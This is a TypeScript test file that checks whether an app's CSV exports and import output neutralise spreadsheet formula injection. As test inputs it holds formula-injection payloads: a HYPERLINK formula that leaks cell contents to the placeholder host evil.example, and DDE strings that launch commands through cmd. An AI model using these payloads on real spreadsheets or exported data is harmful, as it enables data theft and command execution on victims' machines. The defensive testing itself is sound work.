/**
 * Issue 15, item 3: no CSV file Lull writes holds a cell a spreadsheet would
 * run as a formula. Text that begins with =, +, -, @, a tab or a carriage
 * return (an app name from an agent, a person's name from an import) is
 * written behind a single quote, quoted; Lull's own numbers and times are not.
 */
import { execFileSync } from "node:child_process";
import { randomUUID } from "node:crypto";
import { describe, expect, test } from "vitest";
import { FORMULA_START, parseCsv } from "#app/domain/csv.ts";
import { runNextExport } from "#app/jobs/export-runner.server.ts";
import { ingestBatch } from "#app/models/ingest.server.ts";
import { exportFilePath, requestExport } from "#app/models/record-export.server.ts";
import { action as importAction } from "#app/routes/admin.users.import.tsx";
import { createDevice, createUser, sessionCookieFor } from "#test/fixtures.ts";
import { callRoute, formRequest } from "#test/route-harness.ts";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

/** Every cell of a CSV text, as a reader (and a spreadsheet) gets it. */
function cells(csv: string): string[][] {
  const parsed = parseCsv(csv);
  if (!parsed.ok) throw new Error(parsed.error);
  return parsed.records.map((r) => r.fields);
}

describe("the records export", () => {
  test("events.csv and rollups.csv write hostile app names as text and nothing else changes", async () => {
    const worker = await createUser({ timezone: "Europe/Berlin" });
    const device = await createDevice(worker.id);
    const now = new Date();
    const apps = [...HOSTILE, "Editor"];
    await ingestBatch(
      { id: device.id, workerId: worker.id },
      {
        batchId: randomUUID(),
        events: apps.map((app, i) => ({
          type: "click" as const,
          at: new Date(now.getTime() - 60_000 + i * 1000).toISOString(),
          app,
          data: { delta: -3 },
        })),
      },
      now,
    );
    const requested = await requestExport({
      workerId: worker.id,
      requester: { id: worker.id },
      reason: null,
      now: new Date(),
    });
    if (!requested.ok) throw new Error(requested.refusal.message);
    expect(await runNextExport()).toBe(true);
    const member = (name: string) =>
      execFileSync("unzip", ["-p", exportFilePath(requested.id), name]).toString("utf8");

    const events = cells(member("events.csv"));
    const appColumn = events[0]!.indexOf("app");
    expect(events.slice(1).map((row) => row[appColumn])).toEqual([
      ...HOSTILE.map((app) => `'${app}`),
      "Editor",
    ]);
    // The data column is JSON as it was: a negative number inside stays a number.
    const dataColumn = events[0]!.indexOf("data");
    expect(JSON.parse(events[1]![dataColumn]!)).toEqual({ delta: -3 });

    const rollups = cells(member("rollups.csv"));
    const rollupApps = rollups.slice(1).map((row) => row[rollups[0]!.indexOf("app")]);
    expect(rollupApps.sort()).toEqual([...HOSTILE.map((app) => `'${app}`), "Editor"].sort());

    for (const [name, rows] of [
      ["events.csv", events],
      ["rollups.csv", rollups],
      ["pauses.csv", cells(member("pauses.csv"))],
    ] as const) {
      for (const cell of rows.flat())
        expect(FORMULA_START.test(cell), `${name}: ${cell}`).toBe(false);
    }
  });
});

describe("the people import's links file", () => {
  test("a name that begins like a formula is written as text", async () => {
    const admin = await createUser({ role: "ADMIN", timezone: "UTC" });
    const cookie = await sessionCookieFor(admin.id);
    const csv = [
      "name,email,role,manager email,timezone",
      `"=HYPERLINK(""http://evil.example"",""Open"")",formula.person@import.test,,,`,
      "Plain Person,plain.person@import.test,,,",
    ].join("\n");
    const res = await callRoute(
      importAction,
      formRequest("/admin/users/import", { intent: "apply", csv }, { cookie }),
    );
    expect(res.status).toBe(200);
    const data = res.data as { step: string; linksCsv: string };
    expect(data.step).toBe("done");
    const rows = cells(data.linksCsv);
    expect(rows.map((r) => r[0])).toEqual([
      "name",
      `'=HYPERLINK("http://evil.example","Open")`,
      "Plain Person",
    ]);
    for (const cell of rows.flat()) expect(FORMULA_START.test(cell), cell).toBe(false);
  });
});
